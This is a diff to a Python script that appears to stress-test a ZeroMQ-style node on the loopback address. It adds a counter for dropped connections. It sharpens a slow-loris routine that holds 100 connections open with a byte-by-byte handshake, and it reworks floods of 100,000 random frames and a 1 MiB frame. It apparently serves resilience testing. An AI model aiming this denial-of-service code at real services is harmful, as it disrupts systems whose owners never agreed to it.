@@ -7,7 +7,7 @@ It comes from an address of its own of the loopback, or from so many as the vari
 With the folder of the publisher's key and of the pair of a node that was taken over, the attack is that
 node's; what nobody can do without keys begins at the handshake then.
 
-Says "attacking" once it has begun, and then now and then how much it has done.
+Says "attacking" once it has begun, and then now and then how much it has done, and how often it was cut off.
 """
 
 import os
@@ -88,12 +88,13 @@ class Attack:
         self.taken = taken
         self.ports = [(events, b"SUB"), (sync, b"DEALER")]
         self.done = 0
+        self.cut = 0
         self.told = 0
 
     def tell(self):
         self.done += 1
         if time.monotonic() - self.told > 0.5:
-            print(f"attacking {self.done}", flush=True)
+            print(f"attacking {self.done} {self.cut}", flush=True)
             self.told = time.monotonic()
 
     def port(self):
@@ -105,7 +106,7 @@ class Attack:
                 stream.sendall(piece)
                 self.tell()
         except OSError:
-            pass
+            self.cut += 1
         stream.close()
 
     def all_of(self, port, kind, messages):
@@ -136,25 +137,30 @@ class Attack:
         time.sleep(1)
 
     def slow_loris(self):
+        # So slow that time is up before it is at the end, and without a fault until then.
+        mechanism, command = (b"CURVE", b"\x05HELLO") if self.taken else (b"NULL", b"\x05READY")
+        handshake = greeting(mechanism) + bytes([4, 200]) + command + bytes(194)
         streams = [connect(self.port()[0]) for _ in range(100)]
-        for byte in greeting() + os.urandom(64):
+        for byte in handshake:
             for stream in list(streams):
                 try:
                     stream.sendall(bytes([byte]))
                 except OSError:
                     streams.remove(stream)
+                    self.cut += 1
             self.tell()
             time.sleep(0.05)
 
     def bombs(self):
         events, kind = self.ports[0]
+        long = b"\x01" + b"x" * (1 << 20)
+        many = (b"\x01" + os.urandom(random.choice([16, 36, 240])) for _ in range(100_000))
         if self.taken:
-            self.all_of(events, kind, (b"\x01" + os.urandom(16) for _ in range(100_000)))
-            self.all_of(events, kind, [b"\x01" + b"x" * (1 << 20)])
+            self.all_of(events, kind, [long])
+            self.all_of(events, kind, many)
             return
-        many = (frame(0, b"\x01" + os.urandom(16)) * 1 for _ in range(100_000))
-        self.until_cut(handshake(events, kind), many)
-        self.until_cut(handshake(events, kind), [frame(0, b"\x01" + b"x" * (1 << 20))])
+        self.until_cut(handshake(events, kind), [frame(0, long)])
+        self.until_cut(handshake(events, kind), (frame(0, one) for one in many))
 
     def flood(self):
         sync, kind = self.ports[1]
